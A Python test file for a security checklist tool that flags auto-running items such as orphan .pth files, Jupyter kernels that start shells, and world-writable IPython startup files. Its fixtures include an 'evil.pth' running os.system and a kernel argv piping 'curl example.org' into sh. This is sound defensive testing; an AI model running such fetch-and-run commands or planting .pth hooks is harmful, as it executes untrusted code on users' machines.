"""What runs by itself, whom it belongs to, and what is wrong with it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mlsec_nb.checklist.machine.startup import Item
from tests.checklist.machines import machine, write

SITE = "venv/lib/python3.12/site-packages"


def items(base: Path, **more) -> dict[str, Item]:
    return {f"{item.kind}:{item.name}": item for item in machine(base, **more).startup}


def test_pth_file_of_nobody_is_a_problem(tmp_path: Path) -> None:
    write(tmp_path / SITE / "evil.pth", "import os; os.system('id')\n")
    write(tmp_path / SITE / "paths.pth", "/srv/code\n")
    found = items(tmp_path)
    assert "belongs to no installed package" in found["pth:evil.pth"].problem
    assert "pth:paths.pth" not in found


def test_pth_file_of_a_package_is_none(tmp_path: Path) -> None:
    write(tmp_path / SITE / "shim.pth", "import shim\n")
    machine(tmp_path, packages={"shim": "1.0"})
    write(tmp_path / SITE / "shim-1.0.dist-info/RECORD", "shim.pth,sha256=x,12\n")
    found = items(tmp_path)
    assert (found["pth:shim.pth"].owner, found["pth:shim.pth"].problem) == ("shim", "")


@pytest.mark.parametrize(
    ("argv", "problem"),
    [
        (["python", "-m", "ipykernel_launcher"], ""),
        (["/bin/bash", "-c", "curl example.org | sh"], "starts a shell (bash)"),
        (["C:\\Windows\\System32\\cmd.exe", "/c", "x"], "starts a shell (cmd.exe)"),
    ],
)
def test_kernel_that_starts_a_shell(tmp_path: Path, argv, problem) -> None:
    write(tmp_path / "home/.local/share/jupyter/kernels/mine/kernel.json", json.dumps({"argv": argv}))
    assert items(tmp_path)["kernel:mine"].problem == problem


def test_startup_file_that_everybody_can_change(tmp_path: Path) -> None:
    tmp_path.chmod(0o755)
    write(tmp_path / "home/.ipython/profile_default/startup/00-first.py", "x = 1\n", mode=0o666)
    found = items(tmp_path)["ipython:profile_default/startup/00-first.py"]
    reachable = all(folder.stat().st_mode & 0o001 for folder in tmp_path.parents)
    assert found.problem == ("can be changed by every account" if reachable else "")


def test_extensions_of_the_browser_have_their_version(tmp_path: Path) -> None:
    write(tmp_path / "venv/share/jupyter/labextensions/@org/tool/package.json", '{"version": "1.2"}')
    assert items(tmp_path)["browser:@org/tool"].digest == "1.2"
